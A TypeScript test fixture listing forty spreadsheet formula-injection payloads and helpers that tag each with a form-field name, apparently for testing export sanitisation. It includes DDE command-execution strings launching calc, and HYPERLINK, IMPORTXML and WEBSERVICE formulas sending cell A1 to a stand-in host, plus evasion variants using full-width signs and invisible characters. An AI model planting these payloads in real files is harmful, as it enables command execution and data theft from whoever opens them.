/** Texts with which somebody could try to make a spreadsheet run something: forty of them. */
export const formulaPayloads: readonly string[] = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1,1)",
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '=HYPERLINK("http://elsewhere.example/?x="&A1,"Read on")',
  '=IMPORTXML(CONCAT("http://elsewhere.example/?x=",A1),"//a")',
  '=WEBSERVICE("http://elsewhere.example")',
  '=EXEC("calc")',
  '=1+1";=1+1;"',
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(1,1)",
  " =1+1",
  "   +1+1",
  "\u00a0=1+1",
  "\ufeff=1+1",
  "\u200b=1+1",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\r\n=1+1",
  '"=1+1"',
  "'=1+1",
  "''=1+1",
  "“=1+1”",
  ";=1+1",
  ",=1+1",
  "|=1+1",
  "Seen;=1+1;twice",
  "Seen,=1+1,twice",
  "Seen\t=1+1\ttwice",
  'Seen\n=HYPERLINK("http://elsewhere.example")',
  'Seen";=1+1',
  "%0A=1+1",
];

/** Every place in which people type what files hold. */
export const typedPlaces = [
  ...["exclusion_reason", "case_type_detail", "incident_rationale", "practice", "action"],
  ...["case_type", "incident_type", "methodology", "involvement", "submission_kind"],
  ...["practice_theme", "action_status", "factor", "level", "other_theme"],
  ...["sample", "note", "agreed_reason", "coder"],
  ...["context_label", "context_figure", "context_source"],
  ...["record_reason", "release_note", "licence", "lead", "cell_of_upload"],
] as const;
export type TypedPlace = (typeof typedPlaces)[number];

/** The text with this number in a place: a payload that says where it was typed. */
export function typedIn(place: TypedPlace, index: number): string {
  return `${formulaPayloads[index % formulaPayloads.length]}+${place}_${index}`;
}

/** The numbers of the texts of a place. */
export const numbers = formulaPayloads.map((_, index) => index);

/** All texts of a place. */
export const allTypedIn = (place: TypedPlace) => numbers.map((index) => typedIn(place, index));
